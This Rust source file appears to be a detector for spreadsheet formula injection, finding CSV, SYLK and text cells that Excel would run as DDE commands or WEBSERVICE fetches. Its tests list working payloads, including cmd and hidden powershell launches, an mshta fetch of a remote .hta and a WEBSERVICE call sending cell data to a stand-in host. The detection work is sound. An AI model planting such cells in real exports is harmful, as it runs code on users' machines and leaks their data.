//! Cells of a text table → formulas that start a program or load from the web when Excel opens it (RFC 4180 for cells;
//! the formula `server|'topic'!item` as Excel reads it; SYLK's `;E` fields).

use crate::Kind;
use crate::number::slice;
use crate::office::told::{Sign, tell};
use crate::open::Look;
use crate::{Cost, Danger, DeedKind};

/// Cells whose formulas are looked at; a table has many more cells, but they hold values.
const FORMULAS_MAX: usize = 100_000;

/// Looks at a table kept as text. What is called plain text is one too when its name says so, which only the receiver
/// sees; there, only a formula that names a command processor counts.
pub(crate) fn look(look: &mut Look<'_>) {
    if !matches!(look.kind, Kind::Csv | Kind::Text | Kind::Slk) || memchr::memchr(b'|', look.bytes).is_none()
    {
        return look_for_web(look);
    }
    if !look.pays(Cost::Bytes(look.bytes.len() as u64)) {
        return;
    }
    let text = text(look.bytes);
    for (row, formula) in formulas(&text, look.kind).take(FORMULAS_MAX) {
        let Some((server, topic)) = conversation(formula) else { continue };
        if look.kind != Kind::Csv
            && !super::is_started_program(server)
            && super::danger(server, topic) < Danger::Dangerous
        {
            continue;
        }
        super::judge(&format!("row {row}"), "Open", server, topic, look.opened);
    }
    look_for_web(look);
}

/// `WEBSERVICE` fetches as soon as the table is calculated.
fn look_for_web(look: &mut Look<'_>) {
    if look.kind != Kind::Csv {
        return;
    }
    let text = text(look.bytes);
    for (row, formula) in formulas(&text, look.kind).take(FORMULAS_MAX) {
        let upper = formula.to_ascii_uppercase();
        if upper.contains("WEBSERVICE(") {
            let at = formula.find("http").unwrap_or(formula.len());
            let link = formula.get(at..).unwrap_or_default().split(['"', ')']).next().unwrap_or_default();
            tell(
                look.opened,
                &Sign {
                    kind: DeedKind::ExternalObject,
                    danger: Danger::Active,
                    place: &format!("row {row}"),
                    start: "Calculate",
                    does: "WEBSERVICE",
                    link,
                    string: formula,
                },
            );
        }
    }
}

fn text(bytes: &[u8]) -> String {
    let wide = match slice(bytes, 0, 2) {
        [0xff, 0xfe] | [b'=' | b'"' | b'+' | b'-' | b'@', 0] => Some(encoding_rs::UTF_16LE),
        [0xfe, 0xff] | [0, b'=' | b'"' | b'+' | b'-' | b'@'] => Some(encoding_rs::UTF_16BE),
        _ => None,
    };
    match wide {
        Some(encoding) => encoding.decode(bytes).0.into_owned(),
        None => String::from_utf8_lossy(bytes).into_owned(),
    }
}

/// The cells that Excel reads as formulas, with their row.
fn formulas(text: &str, kind: Kind) -> impl Iterator<Item = (usize, &str)> {
    text.lines().enumerate().flat_map(move |(row, line)| {
        let cells: Box<dyn Iterator<Item = &str>> = if kind == Kind::Slk {
            Box::new(line.split(';').filter_map(|field| field.strip_prefix('E')))
        } else {
            Box::new(cells(line).filter(|cell| cell.starts_with(['=', '+', '-', '@'])))
        };
        cells.map(move |cell| (row + 1, cell))
    })
}

/// Cells, whatever divides them; quotes around them taken off. A separator inside quotes divides too: only the part
/// that begins like a formula counts, and a command's beginning holds none.
fn cells(line: &str) -> impl Iterator<Item = &str> {
    line.split([',', ';', '\t']).map(|cell| {
        cell.trim_start_matches(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '\u{feff}' | '\0'))
    })
}

/// Server and topic of the first conversation in a formula: a word, `|`, a topic in quotes or without, `!`, an item.
pub(crate) fn conversation(formula: &str) -> Option<(&str, &str)> {
    let (before, behind) = formula.split_once('|')?;
    let before = before.trim_end_matches(['\'', '"']);
    let is_word =
        |c: char| c.is_alphanumeric() || matches!(c, '.' | '_' | '\\' | '/' | ':' | '^' | '%' | '~');
    let at = before.char_indices().rev().take_while(|(_, c)| is_word(*c)).last().map(|(at, _)| at)?;
    let server = before.get(at..)?;
    let (topic, item) = match behind.chars().next().filter(|c| matches!(c, '\'' | '"')) {
        Some(quote) => {
            let quoted = behind.get(1..)?;
            match quoted.rfind(&format!("{quote}!")) {
                Some(end) => (quoted.get(..end)?, quoted.get(end + 1..)?),
                // The topic of a cell that a separator cuts ends with the cell.
                None if !quoted.contains(quote) => (quoted, "!"),
                None => return None,
            }
        }
        None => behind.split_at_checked(behind.find('!')?)?,
    };
    let begins = server.starts_with(|c: char| c.is_alphabetic() || matches!(c, '\\' | '.' | '%'));
    (begins && item.starts_with('!')).then_some((server, topic))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Budget, Keys, kind, open};

    fn deeds(bytes: &[u8], kind: Kind) -> String {
        let opened = open(bytes, kind, &Keys::default(), &mut Budget::default(), &mut |_| {});
        opened
            .deeds
            .iter()
            .map(|deed| format!("{:?} {:?}", deed.kind, deed.danger))
            .collect::<Vec<_>>()
            .join(", ")
    }

    #[test]
    fn formulas_that_start_programs() {
        let dangerous = [
            "=cmd|'/k calc.exe'!A0",
            "=1+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!D2",
            "+powershell|'-nop -w hidden'!A1",
            "a,b,\"=cmd|'/c calc'!A1\"",
            "a;b;=mshta|'http://pages.example/a.hta'!A1",
            "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
            "\"=cmd|'/c calc,1'!A1\"",
            "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        ];
        for cell in dangerous {
            assert_eq!(deeds(cell.as_bytes(), Kind::Csv), "Dde Dangerous", "{cell}");
            let wide: Vec<u8> = format!("\u{feff}{cell}").encode_utf16().flat_map(u16::to_le_bytes).collect();
            assert_eq!(deeds(&wide, Kind::Csv), "Dde Dangerous", "{cell}");
            assert_eq!(deeds(cell.as_bytes(), Kind::Text), "Dde Dangerous", "{cell}");
        }
        assert_eq!(deeds(b"ID;P\r\nC;X1;Y1;Ecmd|'/c calc'!A0;K0\r\nE", Kind::Slk), "Dde Dangerous");
        assert_eq!(deeds(b"a,b,=WEBSERVICE(\"http://a.example/\"&A1)\n", Kind::Csv), "ExternalObject Active");
        assert_eq!(deeds(b"a,b,=RSS|'N225.FS'!PRICE\n", Kind::Csv), "Dde Active");
    }

    #[test]
    fn ordinary_tables_are_quiet() {
        let quiet = [
            "=SUM(A1:A3),1,2",
            "-5|x,1,2",
            "a|b|c\nd|e|f",
            "=A1|B1,2,3",
            "+81-3-0000-0000|東京,a,b",
            "- cmd | '/c'! is a trick",
            "=HYPERLINK(\"https://midori.example/\",\"案内\"),1,2",
            "@midori|设计!,2,3",
            "note: =cmd|'/c calc'!A0 is an attack",
        ];
        for text in quiet {
            assert_eq!(deeds(text.as_bytes(), Kind::Text), "", "{text}");
        }
        for text in &quiet[..4] {
            assert_eq!(deeds(text.as_bytes(), Kind::Csv), "", "{text}");
        }
        assert_eq!(kind(b"=cmd|'/k calc'!A0\n"), Kind::Text);
    }
}
